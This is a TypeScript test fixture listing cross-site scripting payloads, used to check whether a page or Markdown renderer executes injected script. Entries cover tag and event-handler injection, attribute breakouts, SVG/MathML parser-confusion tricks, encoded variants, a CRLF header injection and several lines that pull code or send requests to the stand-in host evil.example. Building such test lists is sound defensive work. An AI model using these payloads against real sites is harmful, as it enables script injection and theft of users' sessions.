/**
 * Ways to make a page run what somebody wrote. Each calls `alert` with its own number, or asks `evil.example` for something,
 * so that a test sees which one got through. `N` is replaced by the number.
 */
const PAYLOADS = [
  // Plain tags
  '<script>alert(N)</script>',
  '<ScRiPt >alert(N)</sCrIpT>',
  '<script src=//evil.example/N.js></script>',
  '<script type="module">import("https://evil.example/N.js")</script>',
  '<script\u0000>alert(N)</script>',
  '<scr<script>ipt>alert(N)</scr</script>ipt>',
  '</script><script>alert(N)</script>',
  '<img src=x onerror=alert(N)>',
  '<img/src="x"/onerror=alert(N)//',
  '<IMG """><script>alert(N)</script>">',
  '<body onload=alert(N)>',
  '<iframe src="javascript:alert(N)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(N)</script>"></object>',
  '<embed src="https://evil.example/N.swf">',
  '<video><source onerror=alert(N)></video>',
  '<audio src=x onerror=alert(N)>',
  '<details open ontoggle=alert(N)>x</details>',
  '<input autofocus onfocus=alert(N)>',
  '<select autofocus onfocus=alert(N)></select>',
  '<marquee onstart=alert(N)>x</marquee>',
  '<a href="javascript:alert(N)" id=x>x</a>',
  '<form action="javascript:alert(N)"><button autofocus>x</button></form>',
  '<button formaction="javascript:alert(N)" form=f>x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/N">',
  '<link rel="stylesheet" href="https://evil.example/N.css">',
  '<div style="background:url(https://evil.example/N.png)">x</div>',
  '<style>@import "https://evil.example/N.css";</style>',
  '<template><img src=x onerror=alert(N)></template>',
  // Out of an attribute
  '" onmouseover="alert(N)" autofocus onfocus="alert(N)" x="',
  "' onfocus='alert(N)' autofocus x='",
  '"><svg onload=alert(N)>',
  "'><img src=x onerror=alert(N)>",
  'javascript:alert(N)',
  ' \tjava\nscript:alert(N)',
  // SVG and MathML, also by the detours of parsers
  '<svg/onload=alert(N)>',
  '<svg><script>alert(N)</script></svg>',
  '<svg><animate onbegin=alert(N) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(N)"><text x="9" y="9">x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(N)></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(N)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(N)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(N)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(N)>">',
  // Markdown
  '[x](javascript:alert(N))',
  '[x](JaVaScRiPt&colon;alert(N))',
  '![x](https://evil.example/N.png)',
  '![x](javascript:alert(N))',
  '<javascript:alert(N)>',
  '[x]: javascript:alert(N)\n\n[x]',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "N")',
  '[x](https://example.org/"onmouseover="alert(N))',
  // Entities, templates, unusual signs
  '&lt;script&gt;alert(N)&lt;/script&gt; &#60;img src=x onerror=alert(N)&#62; &#x3c;svg onload=alert(N)&#x3e;',
  '\\u003cscript\\u003ealert(N)\\u003c/script\\u003e \\x3cimg src=x onerror=alert(N)\\x3e',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: other languages' templates
  '{{constructor.constructor("alert(N)")()}} ${alert(N)} #{alert(N)} <%= alert(N) %>',
  '＜script＞alert(N)＜/script＞ \u202e>tpircs/<(N)trela>tpircs<\u202c \u2028alert(N)\u2029',
  '\u00bcscript\u00bealert(N)\u00bc/script\u00be +ADw-script+AD4-alert(N)+ADw-/script+AD4-',
  '<script nonce="">alert(N)</script><script nonce="x">alert(N)</script>',
  '<p style="animation-name:x" onanimationstart=alert(N)>x</p>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(N)></svg>#x"></use></svg>',
  '<a href="https://example.org/" ping="https://evil.example/N">x</a>',
  '=HYPERLINK("https://evil.example/N";"x")',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(N)</script>',
  // Last, as it would swallow what stands behind it
  '<!--><img src=x onerror=alert(N)>--!><textarea></title><plaintext>',
] as const

/** PostgreSQL stores no NUL; the doors take it out as well. */
export const XSS_PAYLOADS: readonly string[] = PAYLOADS.map((payload, n) =>
  payload.replaceAll('\0', '').replaceAll('N)', `${n})`).replaceAll('/N', `/${n}`).replaceAll('"N"', `"${n}"`),
)
export const payloadOf = (n: number) => XSS_PAYLOADS[n % XSS_PAYLOADS.length]!
/** All of them in one text, for a place of which there is only one. */
export const ALL_PAYLOADS = XSS_PAYLOADS.join('\n\n')
